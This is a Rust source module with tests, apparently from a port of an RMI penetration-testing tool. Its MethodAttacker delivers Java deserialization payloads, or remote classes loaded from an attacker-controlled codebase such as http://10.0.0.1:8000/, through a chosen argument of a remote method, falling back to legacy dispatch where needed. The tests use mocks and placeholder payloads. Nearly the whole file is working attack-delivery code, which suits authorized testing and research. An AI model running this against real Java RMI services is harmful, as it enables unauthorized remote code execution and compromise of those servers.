//! Delivers a payload through one argument of a known remote method.

use std::fmt;

use tracing::info;

use crate::call::{invoke, Argument, CallFrame, DispatchMode, LegacyMode, Selector};
use crate::candidate::{LegacyInterface, MethodCandidate};
use crate::error::RmgError;
use crate::guesser::GuessTarget;
use crate::response::{RejectionKind, ResponseClass};
use crate::serial::JavaValue;
use crate::session::Session;
use crate::util::Payload;

/// How the payload travels in its argument slot.
#[derive(Debug, Clone, PartialEq)]
pub enum AttackPayload {
    /// A serialized object, embedded as is.
    Serialized(Payload),
    /// An object of a class the target has to fetch from `codebase`.
    RemoteClass { class_name: String, codebase: String },
}

impl AttackPayload {
    pub fn into_value(self) -> JavaValue {
        match self {
            AttackPayload::Serialized(payload) => JavaValue::Opaque(payload),
            AttackPayload::RemoteClass {
                class_name,
                codebase,
            } => JavaValue::CodebaseClass {
                class_name,
                codebase: Some(codebase),
            },
        }
    }
}

impl fmt::Display for AttackPayload {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackPayload::Serialized(payload) => write!(f, "serialized object ({})", payload),
            AttackPayload::RemoteClass {
                class_name,
                codebase,
            } => write!(f, "{} from {}", class_name, codebase),
        }
    }
}

/// Picks the parameter that carries the payload. An explicit position must
/// name a non-primitive parameter; otherwise the first one is used.
pub fn select_argument(candidate: &MethodCandidate, position: Option<usize>) -> Result<usize, RmgError> {
    let params = candidate.params();
    match position {
        Some(position) if position >= params.len() => Err(RmgError::invalid_input(format!(
            "argument position {} is out of range for {} (arity {})",
            position,
            candidate,
            params.len()
        ))),
        Some(position) if params[position].is_primitive() => Err(RmgError::invalid_input(format!(
            "argument {} of {} is primitive ({}) and cannot carry an object",
            position, candidate, params[position]
        ))),
        Some(position) => Ok(position),
        None => params
            .iter()
            .position(|param| !param.is_primitive())
            .ok_or_else(|| {
                RmgError::invalid_input(format!("{} has no non-primitive parameter", candidate))
            }),
    }
}

pub struct MethodAttacker {
    template: Session,
    legacy: LegacyMode,
}

impl MethodAttacker {
    pub fn new(template: Session, legacy: LegacyMode) -> Self {
        Self { template, legacy }
    }

    fn selectors(&self, target: &GuessTarget, candidate: &MethodCandidate) -> Vec<Selector> {
        self.legacy
            .dispatch_order(target.class_name.as_deref())
            .iter()
            .filter_map(|mode| match mode {
                DispatchMode::Modern => Some(candidate.selector()),
                DispatchMode::Legacy => {
                    LegacyInterface::from_candidates(std::slice::from_ref(candidate))
                        .selector_for(candidate)
                }
            })
            .collect()
    }

    /// Calls `candidate` on `target` with `payload` at the selected position
    /// and placeholders everywhere else. The argument position is validated
    /// before anything is sent.
    pub async fn attack(
        &self,
        target: &GuessTarget,
        candidate: &MethodCandidate,
        position: Option<usize>,
        payload: AttackPayload,
    ) -> Result<ResponseClass, RmgError> {
        let position = select_argument(candidate, position)?;
        info!(
            bound_name = %target.bound_name,
            signature = %candidate,
            position,
            payload = %payload,
            "attacking method"
        );

        let mut args: Vec<Argument> = candidate
            .params()
            .iter()
            .cloned()
            .map(Argument::Placeholder)
            .collect();
        args[position] = Argument::Value(payload.into_value());
        let selectors = self.selectors(target, candidate);

        let mut session = self.template.to(target.endpoint.clone());
        let mut result = Err(RmgError::invalid_input(format!(
            "{} has no selector for {}",
            candidate, target.bound_name
        )));
        for selector in selectors {
            let frame = CallFrame::new(target.obj_id, selector, args.clone())
                .returning(candidate.return_type());
            match invoke(&mut session, &frame).await {
                Ok(response) => {
                    let unknown = response.rejection_kind() == Some(RejectionKind::UnknownMethod);
                    result = Ok(response);
                    if !unknown {
                        break;
                    }
                }
                Err(err) => {
                    result = Err(err.into());
                    break;
                }
            }
        }
        session.close().await;
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::endpoint::Endpoint;
    use crate::findings::DeliveryOutcome;
    use crate::mock::{MockCall, MockDialer, MockException, MockReply};
    use crate::protocol::ObjId;
    use crate::session::SessionOptions;
    use std::sync::Arc;

    fn target() -> GuessTarget {
        GuessTarget {
            bound_name: "plain-server".to_owned(),
            endpoint: Endpoint::new("target", 40001),
            obj_id: ObjId::random(),
            class_name: None,
        }
    }

    fn attacker(dialer: Arc<MockDialer>) -> MethodAttacker {
        MethodAttacker::new(
            Session::new(Endpoint::new("target", 1099), dialer, SessionOptions::default()),
            LegacyMode::Auto,
        )
    }

    #[test]
    fn automatic_position_skips_primitives() {
        let method =
            MethodCandidate::parse("void releaseRecord(int recordID, String tableName, Integer hash)")
                .unwrap();
        assert_eq!(select_argument(&method, None).unwrap(), 1);
        assert_eq!(select_argument(&method, Some(2)).unwrap(), 2);
        assert!(select_argument(&method, Some(0)).is_err());

        let primitives = MethodCandidate::parse("int add(int a, int b)").unwrap();
        assert!(select_argument(&primitives, None).is_err());
    }

    #[tokio::test]
    async fn out_of_range_position_sends_nothing() {
        let dialer = MockDialer::new(|_: &MockCall| MockReply::Void);
        let method = MethodCandidate::parse("String execute(String cmd)").unwrap();
        let payload = AttackPayload::Serialized(Payload::new(vec![0xAC, 0xED, 0x00, 0x05, 0x70]));
        let err = attacker(dialer.clone())
            .attack(&target(), &method, Some(1), payload)
            .await
            .unwrap_err();
        assert!(matches!(err, RmgError::InvalidInput(_)));
        assert_eq!(dialer.dials(), 0);
    }

    #[tokio::test]
    async fn primitive_position_sends_nothing() {
        let dialer = MockDialer::new(|_: &MockCall| MockReply::Void);
        let method = MethodCandidate::parse("void releaseRecord(int recordID, String tableName)").unwrap();
        let payload = AttackPayload::Serialized(Payload::new(vec![0xAC, 0xED, 0x00, 0x05, 0x70]));
        let err = attacker(dialer.clone())
            .attack(&target(), &method, Some(0), payload)
            .await
            .unwrap_err();
        assert!(matches!(err, RmgError::InvalidInput(message) if message.contains("primitive")));
        assert_eq!(dialer.dials(), 0);
    }

    #[tokio::test]
    async fn payload_replaces_only_the_selected_argument() {
        let method = MethodCandidate::parse("String system(String cmd, String[] args)").unwrap();
        let hash = method.hash();
        let dialer = MockDialer::new(move |call: &MockCall| {
            assert_eq!(call.hash, hash);
            MockReply::Exception(MockException::server(
                MockException::new("java.rmi.UnmarshalException", "error unmarshalling arguments")
                    .caused_by(MockException::new(
                        "java.lang.ClassCastException",
                        "java.util.HashMap cannot be cast to [Ljava.lang.String;",
                    )),
            ))
        });
        let payload = AttackPayload::Serialized(Payload::new(vec![
            0xAC, 0xED, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11, b'j', b'a', b'v', b'a', b'.', b'u', b't',
            b'i', b'l', b'.', b'H', b'a', b's', b'h', b'M', b'a', b'p', 0x05, 0x07, 0xDA, 0xC1, 0xC3,
            0x16, 0x60, 0xD1, 0x03, 0x00, 0x00, 0x78, 0x70, 0x77, 0x08, 0x00, 0x00, 0x00, 0x10, 0x00,
            0x00, 0x00, 0x00, 0x78,
        ]));
        let response = attacker(dialer.clone())
            .attack(&target(), &method, Some(1), payload)
            .await
            .unwrap();
        assert_eq!(DeliveryOutcome::from_response(&response), DeliveryOutcome::Delivered);

        let call = &dialer.calls()[0];
        assert_eq!(call.args[0], crate::serial::Content::Null);
        assert_eq!(call.object_class(1), Some("java.util.HashMap"));
    }

    #[tokio::test]
    async fn jmx_stub_is_attacked_by_method_hash() {
        let method =
            MethodCandidate::parse("javax.management.remote.rmi.RMIConnection newClient(Object credentials)")
                .unwrap();
        let hash = method.hash();
        let dialer = MockDialer::new(move |call: &MockCall| {
            if call.op == -1 && call.hash == hash {
                MockReply::Exception(MockException::new(
                    "java.lang.SecurityException",
                    "Authentication failed! Credentials should be String[]",
                ))
            } else {
                MockReply::exception("java.rmi.server.SkeletonMismatchException", "interface hash mismatch")
            }
        });
        let mut target = target();
        target.bound_name = "jmxrmi".to_owned();
        target.class_name = Some("javax.management.remote.rmi.RMIServerImpl_Stub".to_owned());
        let payload = AttackPayload::Serialized(Payload::new(vec![0xAC, 0xED, 0x00, 0x05, 0x70]));

        let response = attacker(dialer.clone())
            .attack(&target, &method, None, payload)
            .await
            .unwrap();
        assert!(response.reached_method());
        let calls = dialer.calls();
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].op, -1);
        assert_eq!(dialer.dials(), 1);
    }

    #[tokio::test]
    async fn stub_falls_back_to_legacy_on_unknown_method() {
        let method = MethodCandidate::parse("String execute(String cmd)").unwrap();
        let dialer = MockDialer::new(|call: &MockCall| {
            if call.op == 0 {
                MockReply::Exception(MockException::new("java.lang.NullPointerException", "cmd"))
            } else {
                MockReply::exception("java.rmi.UnmarshalException", "invalid method number")
            }
        });
        let mut target = target();
        target.class_name = Some("de.qtc.rmg.server.legacy.LegacyServiceImpl_Stub".to_owned());

        let response = attacker(dialer.clone())
            .attack(
                &target,
                &method,
                None,
                AttackPayload::Serialized(Payload::new(vec![0xAC, 0xED, 0x00, 0x05, 0x70])),
            )
            .await
            .unwrap();
        assert!(response.reached_method());
        let ops: Vec<i32> = dialer.calls().iter().map(|call| call.op).collect();
        assert_eq!(ops, vec![-1, 0]);
    }

    #[tokio::test]
    async fn remote_class_carries_codebase() {
        let dialer = MockDialer::new(|_: &MockCall| {
            MockReply::Exception(MockException::server(
                MockException::new("java.rmi.UnmarshalException", "error unmarshalling arguments")
                    .caused_by(MockException::new(
                        "java.lang.ClassNotFoundException",
                        "Exploit (no security manager: RMI class loader disabled)",
                    )),
            ))
        });
        let method = MethodCandidate::parse("String execute(String cmd)").unwrap();
        let response = attacker(dialer.clone())
            .attack(
                &target(),
                &method,
                None,
                AttackPayload::RemoteClass {
                    class_name: "Exploit".to_owned(),
                    codebase: "http://10.0.0.1:8000/".to_owned(),
                },
            )
            .await
            .unwrap();
        assert_eq!(DeliveryOutcome::from_response(&response), DeliveryOutcome::LoaderDisabled);
        assert_eq!(dialer.calls()[0].object_class(0), Some("Exploit"));
    }
}
